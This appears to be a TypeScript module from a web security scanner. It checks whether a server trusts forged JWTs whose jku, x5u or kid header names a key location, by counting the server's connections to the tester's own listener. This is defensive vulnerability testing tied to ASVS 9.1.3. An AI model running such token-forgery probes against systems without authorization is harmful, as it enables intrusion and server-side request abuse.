import type { Attack, AttackResult } from '../attack.js';
import { withListener } from '../count-listener.js';
import { Inconclusive } from '../errors.js';
import { tryForgeries } from '../jwt-attack.js';
import { keyAddresses, listenersAnswer } from '../jwt-forgeries.js';
import type { Target } from '../target.js';

/** Not only whether the token is believed: a server that fetches whatever a token names is an attacker's legs. */
async function run(target: Target): Promise<AttackResult> {
  return withListener(listenersAnswer, async listener => {
    const { status } = await fetch(`${listener.url}/keys.json`);
    const own = listener.connections();
    if (status !== 200 || own === 0) throw new Inconclusive('the listener does not count who connects');
    const result = await tryForgeries(target, ({ header, wish }) => keyAddresses(header, wish, listener.url));
    const connections = listener.connections() - own;
    if (result.outcome === 'not applicable' || connections === 0) return result;
    const reason = `the system connected ${connections} times to where a token told it to`;
    return { exchanges: [], ...result, outcome: 'succeeded', reason };
  });
}

export const jwtKeyAddress: Attack = {
  title: 'a signed token that says where its key is (jku, x5u, kid): a server of the attacker, who counts connections',
  asvs: ['9.1.3'],
  weak: ['jwt-trusting'],
  run,
};
